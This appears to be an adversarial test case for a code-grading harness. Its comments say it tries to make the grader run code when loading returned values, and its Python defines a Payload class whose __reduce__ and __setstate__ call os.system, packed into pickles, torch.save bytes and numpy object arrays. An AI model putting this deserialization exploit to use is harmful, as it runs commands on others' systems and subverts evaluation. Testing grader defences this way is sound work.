# Tries: to run code in the grader when it loads what was returned: objects with __reduce__, __getstate__ and
#   __setstate__, pickles in texts, arrays of objects, and bytes that torch.save wrote.
# Stopped by: describing values as plain data; an object that is none of the known types does not travel at all.
# Score: HALF
# Process: yes
# Place: after
import base64
import io
import os
import pickle

import numpy
import torch

COMMAND = "touch /tmp/attack-was-loaded"


class Payload:
    def __reduce_ex__(self, protocol):
        return os.system, (COMMAND,)

    __reduce__ = lambda self: (os.system, (COMMAND,))
    __getstate__ = lambda self: {"command": COMMAND}
    __setstate__ = lambda self, state: os.system(COMMAND)
    __copy__ = __deepcopy__ = lambda self, *memory: self
    __json__ = to_json = toJSON = lambda self: "B"


saved = io.BytesIO()
torch.save(Payload(), saved)
FIXED_MIX = [Payload(), Payload()]
ROW_OUTPUT = pickle.dumps(Payload())
ROW_WEIGHTS = numpy.array([Payload(), Payload(), Payload()], dtype=object)
OPTIMIZER_STORES = base64.b64encode(saved.getvalue()).decode()
V_ROW_INCREASE = saved
CANCEL_V = {Payload(): Payload(), "__reduce__": COMMAND}


def project(x, table):
    return Payload()
